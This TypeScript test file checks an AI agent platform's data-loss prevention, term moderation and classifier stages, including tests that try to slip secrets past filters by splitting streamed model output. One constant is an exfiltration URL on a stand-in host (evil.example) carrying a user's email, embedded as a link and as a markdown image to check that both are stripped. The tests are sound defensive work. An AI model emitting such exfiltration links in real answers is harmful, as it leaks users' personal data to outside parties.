import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Tenant } from "../../config/tenant.ts";
import { createAgent } from "../../core/agent.ts";
import type { AuditRecord } from "../../core/audit-log.ts";
import type { Content } from "../../core/contract/message.ts";
import type { ModelProvider, ModelRequest, ModelTurn } from "../../core/contract/model.ts";
import type { Reply } from "../../core/contract/reply.ts";
import { createPipeline } from "../../core/pipeline.ts";
import type { Classifier } from "../../core/safety/classifiers/classifier.ts";
import type { Reviews } from "../../core/safety/reviews.ts";
import { createSkillRunner } from "../../core/skill-runner.ts";
import type { Context } from "../../core/stage.ts";
import { createValidator } from "../../skills/shape.ts";
import { recordedLog } from "../fakes/log.ts";
import { type ContentOptions, contentOf } from "../fakes/safety.ts";
import {
  callOf,
  contextOf,
  fakeSandbox,
  forgetful,
  freeModels,
  recordedAudit,
  tenantWith,
  unlimited,
} from "../fakes/turn.ts";

const CARD = "4111 1111 1111 1111";
const TERMS = [
  { id: "T1", term: "毒品", action: "block" },
  { id: "T2", term: "casino", action: "review" },
  { id: "T3", term: "heroin", action: "mask" },
] as const;

interface World extends ContentOptions {
  readonly reviews?: Reviews;
  readonly who?: Partial<Tenant>;
  /** What the model says, in pieces; or the calls it makes. */
  readonly model?: readonly (readonly string[] | ModelTurn["toolCalls"])[];
  readonly skillOutput?: unknown;
  readonly files?: Readonly<Record<string, string>>;
}

const isText = (turn: readonly unknown[]): turn is readonly string[] =>
  turn.every((piece) => typeof piece === "string");

/** One turn through the real stages, agent and skill runner; the model, sandbox and clock stand in. */
const ask = async (given: string | Extract<Content, { kind: "text" }>, world: World = {}) => {
  const { model = [["ok"]], files = {}, reviews, who = {}, skillOutput, ...options } = world;
  const content = typeof given === "string" ? { kind: "text" as const, text: given } : given;
  const rules = contentOf(options);
  const requests: ModelRequest[] = [];
  const provider: ModelProvider = {
    name: "fake",
    generate: async (request) => {
      requests.push({ ...request, messages: [...request.messages] });
      const turn = model[Math.min(requests.length, model.length) - 1] ?? [];
      const usage = { inputTokens: 0, outputTokens: 0 };
      if (!isText(turn)) return { text: "", toolCalls: turn, usage };
      let text = "";
      for (const piece of turn) {
        text += piece;
        request.onText?.(text);
      }
      return { text, toolCalls: [], usage };
    },
  };
  const auditLog = recordedAudit();
  const { sandbox, runs } = fakeSandbox({ output: skillOutput ?? { text: "done" } });
  const skills = createSkillRunner({
    skills: new Map([
      [
        "tool",
        {
          ...{ name: "tool", description: "", instructions: "", folder: "/s", digest: "d" },
          files: new Map(),
          ...{ risk: "low", egress: [], secrets: [], limits: {} },
          entry: { path: "run.py", language: "python" },
          inputProblem: createValidator(undefined),
          outputProblem: createValidator(undefined),
        },
      ],
    ]),
    sandbox,
    limitsFor: () => ({
      ...{ wallMs: 1, cpuMs: 1, memoryBytes: 1, pids: 1, files: 1 },
      ...{ egressBytesPerSecond: 1, diskBytes: 1, outputBytes: 1 },
    }),
    egressFor: () => "none",
    safetyOf: rules.safetyOf,
    auditLog,
    now: () => new Date(0),
  });
  const log = recordedLog();
  const pipeline = createPipeline({
    ...rules,
    ...unlimited(),
    ...forgetful,
    ...(reviews && { reviews: { ...rules.reviews, ...reviews } }),
    log,
    roles: { permissionsOf: () => ({ roles: [], has: () => true }) },
    turns: {
      begin: () => expect.unreachable(),
      ended: () => expect.unreachable(),
      stop: async () => false,
      withdraw: async () => ({ ids: [], isAhead: false }),
    },
    agent: createAgent({
      models: freeModels(provider),
      skills,
      now: () => new Date(0),
    }),
    skills,
    welcomed: { markToday: async () => true },
    now: () => new Date(0),
  });
  const records: AuditRecord[] = [];
  const shown: string[] = [];
  const context: Context = {
    ...contextOf(content, tenantWith(["tool"], who)),
    record: (record) => void records.push(record),
    progress: (markdown) => void shown.push(markdown),
    openAttachment: async ({ name }) => new Blob([files[name] ?? ""]).stream(),
  };
  const reply = await pipeline(context);
  const told = JSON.stringify(requests.map(({ messages }) => messages));
  const record = records.find(({ action }) => action === "message");
  return { reply, told, requests, shown, runs, detail: record?.detail, records, auditLog, log };
};

const markdownOf = (reply: Reply) => (reply.kind === "text" ? reply.markdown : reply.kind);
const tool = (input?: unknown) => callOf("tool", input).toolCalls;

describe("data-loss prevention of what a person sends", () => {
  it("lets models see the kind and not the value, and puts kind and count on record", async () => {
    const { told, detail, log } = await ask("write to wang@example.com and li@example.com");
    expect(told).toContain("write to [email] and [email]");
    expect(told).not.toContain("wang");
    expect(detail).toEqual({ data_in: "email 2" });
    expect(JSON.stringify(log.lines)).not.toContain("wang");
  });

  it("refuses with the kind and never the value, before any model is asked", async () => {
    const { reply, requests, detail } = await ask(`pay with ${CARD}`);
    expect(reply).toMatchObject({ kind: "refusal", code: "DATA_BLOCKED" });
    expect(JSON.stringify(reply)).toContain("credit_card");
    expect(JSON.stringify(reply)).not.toContain("1111");
    expect(requests).toEqual([]);
    expect(detail).toEqual({ data_in: "credit_card 1" });
  });

  it("applies with its defaults although no settings speak of it, and not where they switch it off", async () => {
    expect((await ask(CARD)).reply).toMatchObject({ code: "DATA_BLOCKED" });
    expect(markdownOf((await ask(CARD, { dlp: { enabled: false } })).reply)).toBe("ok");
  });

  it("follows the settings' actions, the tenant's before the others, by direction", async () => {
    const dlp = { detectors: { credit_card: { in: "redact" }, email: { in: "block" } } };
    const tenant = { dlp: { detectors: { email: { in: "report", out: "allow" } } } };
    const { reply, told, detail } = await ask(`${CARD}, a@example.com`, {
      ...{ dlp, tenant, model: [["a@example.com"]] },
    });
    expect(told).toContain("[credit_card], a@example.com");
    expect(markdownOf(reply)).toBe("a@example.com");
    expect(detail).toEqual({ data_in: "credit_card 1, email 1" });
  });

  it("applies the customer's rules", async () => {
    const rules = [{ name: "staff", pattern: "EMP-\\d{6}", action: "redact" }];
    expect((await ask("of EMP-123456", { dlp: { rules } })).told).toContain("of [staff]");
  });

  it("tells the stages below that the turn is sensitive", async () => {
    const who = { sensitive: { provider: "near", model: "m", region: "on-prem" } } as const;
    const asked: string[] = [];
    const classifier: Classifier = {
      ...allowing,
      region: "cn",
      classify: async (text) => {
        asked.push(text);
        return { action: "allow", labels: [] };
      },
    };
    await ask("a@example.com", { classifiers: [classifier], who });
    expect(asked).toEqual([]);
    await ask("hello", { classifiers: [classifier], who });
    expect(asked).toEqual(["hello", "ok"]);
  });
});

describe("attack: personal data", () => {
  it("in a quote, in a file's name or in a file is redacted like the message's own", async () => {
    const { told } = await ask(
      {
        kind: "text",
        text: "look",
        quote: "from wang@example.com",
        attachments: [{ kind: "file", name: "li@example.com.csv", ref: "1" }],
      },
      { files: { "li@example.com.csv": "name,mail\nchen,chen@example.com" } },
    );
    expect(told).not.toMatch(/wang@|li@|chen@/);
    expect(told.match(/\[email\]/g)?.length).toBeGreaterThanOrEqual(3);
  });

  it("in a quoted card number stops the turn", async () => {
    const { reply } = await ask({ kind: "text", text: "is this mine?", quote: CARD });
    expect(reply).toMatchObject({ code: "DATA_BLOCKED" });
  });

  it("in full-width digits is found", async () => {
    expect((await ask("４１１１ １１１１ １１１１ １１１１")).reply).toMatchObject({
      code: "DATA_BLOCKED",
    });
    const { reply } = await ask("hi", { model: [["call １３８ ００１３ ８０００"]] });
    expect(markdownOf(reply)).toBe("call [cn_mobile]");
  });

  it("in a skill's output does not reach the model", async () => {
    const { told, auditLog } = await ask("hi", {
      model: [tool(), ["done"]],
      skillOutput: { text: "owner: wang@example.com" },
    });
    expect(told).toContain("owner: [email]");
    expect(told).not.toContain("wang");
    expect(auditLog.records).toMatchObject([{ detail: { output_data: "email 1" } }]);
  });

  it("that blocks, in a skill's output, ends the turn with its kind", async () => {
    const { reply, requests } = await ask("hi", {
      model: [tool(), ["never"]],
      skillOutput: { text: CARD },
    });
    expect(reply).toMatchObject({ code: "DATA_BLOCKED" });
    expect(JSON.stringify(reply)).toContain("credit_card");
    expect(requests).toHaveLength(1);
  });

  it("in the arguments of a skill does not reach it, nor as a key or a number", async () => {
    const { runs } = await ask("hi", { model: [tool({ text: "to wang@example.com" }), ["ok"]] });
    expect(runs.map(({ stdin }) => String(stdin))).toEqual(['{"text":"to [email]"}']);
    for (const input of [{ [CARD]: 1 }, { text: 4111111111111111 }]) {
      const { reply, runs } = await ask("hi", { model: [tool(input), ["never"]] });
      expect(reply).toMatchObject({ code: "DATA_BLOCKED" });
      expect(runs).toEqual([]);
    }
  });
});

describe("moderation", () => {
  it("refuses a blocked term before any model is asked, with the term's id on record", async () => {
    const { reply, requests, detail } = await ask("哪裡有毒 品", { terms: TERMS });
    expect(reply).toMatchObject({ kind: "refusal", code: "CONTENT_BLOCKED" });
    expect(requests).toEqual([]);
    expect(detail).toEqual({ terms_in: "T1 1" });
  });

  it("refuses everything while a lexicon of the tenant is missing", async () => {
    const { reply, requests, detail } = await ask("hello", { tenant: { lexicons: ["gone"] } });
    expect(reply).toMatchObject({ code: "MODERATION_UNAVAILABLE" });
    expect(requests).toEqual([]);
    expect(detail).toEqual({ not_moderated_in: "a lexicon is missing" });
  });

  it("masks in both directions and touches nothing else", async () => {
    const { reply, told } = await ask("x heroin y", { terms: TERMS, model: [["a HEROIN b"]] });
    expect(told).toContain("x ****** y");
    expect(markdownOf(reply)).toBe("a ****** b");
  });

  it("hands what needs a reviewer to the reviews, in either direction, with the ids of its terms", async () => {
    const held: unknown[] = [];
    const reviews: Reviews = {
      hold: async (_context, { direction, text, terms, answer }) => {
        held.push([direction, text, terms, answer?.markdown]);
        return { kind: "silence", reason: "HELD" };
      },
    };
    const quoted = { kind: "text", text: "a casino", quote: "heroin" } as const;
    expect((await ask(quoted, { terms: TERMS, reviews })).reply).toMatchObject({ reason: "HELD" });
    const out = await ask("hi", {
      terms: TERMS,
      reviews,
      model: [["the casino of wei@example.com"]],
    });
    expect(out.reply).toMatchObject({ reason: "HELD" });
    expect(held).toEqual([
      ["in", "heroin\na casino", ["T3", "T2"], undefined],
      ["out", "the casino of [email]", ["T2"], "the casino of wei@example.com"],
    ]);
  });

  it("says that a reviewer is needed where there is none", async () => {
    expect((await ask("casino", { terms: TERMS })).reply).toMatchObject({ code: "CONTENT_HELD" });
  });

  it("blocks in a skill's input and output, and masks there", async () => {
    for (const world of [
      { model: [tool({ text: "毒品" }), ["x"]] },
      { model: [tool(), ["x"]], skillOutput: { text: "casino" } },
    ]) {
      expect((await ask("hi", { terms: TERMS, ...world })).reply).toMatchObject({
        code: "CONTENT_BLOCKED",
      });
    }
    const { told } = await ask("hi", {
      ...{ terms: TERMS, model: [tool(), ["x"]], skillOutput: { text: "heroin" } },
    });
    expect(told).toContain("******");
  });
});

const allowing: Classifier = {
  name: "judge",
  region: "on-prem",
  maxUnits: 100,
  classify: async () => ({ action: "allow", labels: [] }),
};

describe("classifiers", () => {
  const down: Classifier = { ...allowing, classify: () => Promise.reject(new Error("down")) };

  it("block and ask for reviews, with their labels on record", async () => {
    const block: Classifier = {
      ...allowing,
      classify: async () => ({ action: "block", labels: ["violence"] }),
    };
    const { reply, detail } = await ask("hi", { classifiers: [allowing, block] });
    expect(reply).toMatchObject({ code: "CONTENT_BLOCKED" });
    expect(detail).toEqual({ classified_in: "block violence" });
    const review: Classifier = {
      ...allowing,
      classify: async (text) => ({ action: text === "ok" ? "review" : "allow", labels: [] }),
    };
    expect((await ask("hi", { classifiers: [review] })).reply).toMatchObject({
      code: "CONTENT_HELD",
    });
  });

  it("that cannot be asked refuse where moderation is required, else leave it on record", async () => {
    const { reply, detail, log } = await ask("hi", { classifiers: [down] });
    expect(markdownOf(reply)).toBe("ok");
    expect(detail).toEqual({ not_classified_in: "judge", not_classified_out: "judge" });
    expect(log.lines).toMatchObject([
      { level: "warn", fields: { classifiers: [{ name: "judge", reason: "a fault" }] } },
      { level: "warn" },
    ]);
    const tenant = { moderation: { required: true } };
    expect((await ask("hi", { classifiers: [down], tenant })).reply).toMatchObject({
      code: "MODERATION_UNAVAILABLE",
    });
  });

  it("in a place where the data may not go are not asked", async () => {
    const never: Classifier = {
      ...allowing,
      region: "overseas",
      classify: () => expect.unreachable(),
    };
    const who = { dataResidency: "domestic" } as const;
    const { detail } = await ask("hi", { classifiers: [never], who });
    expect(detail).toMatchObject({ not_classified_in: "judge" });
  });

  it("see of an answer what models see, and the person sees nothing before they judged", async () => {
    const texts: string[] = [];
    const spy: Classifier = {
      ...allowing,
      classify: async (text) => {
        texts.push(text);
        return { action: "allow", labels: [] };
      },
    };
    const model = [["to ", "wang@example.com", " and more"]];
    const { shown } = await ask("hi", { classifiers: [spy], model });
    expect(texts).toEqual(["hi", "to [email] and more"]);
    expect(shown).toEqual([]);
  });

  it("are given a long text in parts that overlap", async () => {
    const parts: string[] = [];
    const spy: Classifier = {
      ...allowing,
      classify: async (text) => {
        parts.push(text);
        return { action: "allow", labels: [] };
      },
    };
    await ask(`${"a ".repeat(90)}end`, { classifiers: [spy], model: [["x"]] });
    expect(parts.slice(0, 2).map(({ length }) => length)).toEqual([100, 93]);
    expect(parts[0]?.slice(90)).toBe(parts[1]?.slice(0, 10));
  });
});

describe("attack: an answer that is written piece by piece", () => {
  const splits = (text: string) =>
    fc
      .array(fc.nat(text.length), { maxLength: 12 })
      .map((cuts) => [0, ...cuts.sort((a, b) => a - b), text.length])
      .map((cuts) => cuts.slice(1).map((end, at) => text.slice(cuts[at], end)));
  const lastly = " and that is all there is to say about it today.";
  const EVIL = "https://evil.example/c?d=wang%40example.com";

  it.each([
    ["a blocked term", `first 毒 品 then${lastly}`, "毒", "CONTENT_BLOCKED"],
    ["a term for review", `first c-a-s-i-n-o then${lastly}`, "c-", "CONTENT_HELD"],
    ["a card number", `first ${CARD} then${lastly}`, "41", "DATA_BLOCKED"],
    ["a masked term", `first heroin then${lastly}`, "hero", "first ****** then"],
    ["an address", `first wang@example.com then${lastly}`, "wang", "first [email] then"],
    ["a link", `first ${EVIL} then${lastly}`, "evil", "first (link removed) then"],
    ["an image", `first ![x](${EVIL}) then${lastly}`, "evil", "first ![x](link removed) then"],
  ])("shows nothing of %s, however it is cut", async (_what, text, secret, outcome) => {
    await fc.assert(
      fc.asyncProperty(splits(text), async (pieces) => {
        const { reply, shown } = await ask("hi", { terms: TERMS, model: [pieces] });
        for (const each of shown) expect(each).not.toContain(secret);
        const said = JSON.stringify(reply);
        expect(said).toContain(outcome);
        expect(said).not.toContain(secret);
        if (reply.kind === "text") {
          for (const each of shown) expect(reply.markdown.startsWith(each)).toBe(true);
          expect(reply.markdown.endsWith(lastly)).toBe(true);
        }
      }),
      { numRuns: 60 },
    );
  });

  it("still grows before the person's eyes while it is harmless", async () => {
    const pieces = [..."The report is ready. It has three parts, and all of them are fine."];
    const { shown } = await ask("hi", { terms: TERMS, model: [pieces] });
    expect(shown.length).toBeGreaterThan(3);
    expect(shown.at(-1)?.length).toBeGreaterThan(30);
  });

  it("starts anew when the model does after a skill ran", async () => {
    const { shown, reply } = await ask("hi", {
      model: [tool(), ["Now the answer to what you asked for is here."]],
    });
    expect(markdownOf(reply)).toContain("Now the answer");
    expect(
      shown.every((each) => "Now the answer to what you asked for".includes(each.trim())),
    ).toBe(true);
  });
});
